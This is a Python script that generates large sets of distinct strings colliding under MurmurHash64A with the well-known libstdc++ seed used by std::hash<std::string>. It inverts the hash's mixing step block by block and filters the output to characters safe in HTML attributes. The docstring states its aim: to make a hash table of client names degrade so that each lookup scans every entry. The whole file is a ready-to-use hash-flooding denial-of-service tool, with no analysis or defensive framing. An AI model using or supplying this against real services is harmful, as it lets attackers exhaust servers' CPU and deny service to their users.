"""Strings that one hash function takes for the same: MurmurHash64A as libstdc++ uses it for
std::hash<std::string>, whose seed everybody knows. A table that hashes names of clients with it
can be made to look at all of them for each."""

import itertools
import struct

MASK = (1 << 64) - 1
FACTOR = 0xC6A4A7935BD1E995
INVERSE = pow(FACTOR, -1, 1 << 64)
SEED = 0xC70F6907
# What may stand in an attribute as it is.
PLAIN = set(range(0x23, 0x7F)) - set(b"&<'")


def mix(block):
    block = block * FACTOR & MASK
    return (block ^ block >> 47) * FACTOR & MASK


def unmix(mixed):
    mixed = mixed * INVERSE & MASK
    return (mixed ^ mixed >> 47) * INVERSE & MASK


def alternatives(state, target, count, start):
    """`count` texts of 16 characters that all take the hash from `state` to `target`."""
    found = []
    for number in itertools.count(start):
        first = f"{number:08d}".encode()
        between = (state ^ mix(struct.unpack("<Q", first)[0])) * FACTOR & MASK
        second = struct.pack("<Q", unmix(between ^ target * INVERSE & MASK))
        if PLAIN.issuperset(second):
            found.append((first + second).decode())
            if len(found) == count:
                return found


def colliding(count, stages=4):
    """`count` texts of 16 × `stages` plain characters that have one hash."""
    width = 1
    while width ** stages < count:
        width += 1
    state = SEED ^ (16 * stages * FACTOR & MASK)
    parts = []
    for stage in range(stages):
        target = 0x0123456789ABCDEF + stage
        parts.append(alternatives(state, target, width, stage * 10_000_000))
        state = target
    return ["".join(choice) for choice in itertools.islice(itertools.product(*parts), count)]
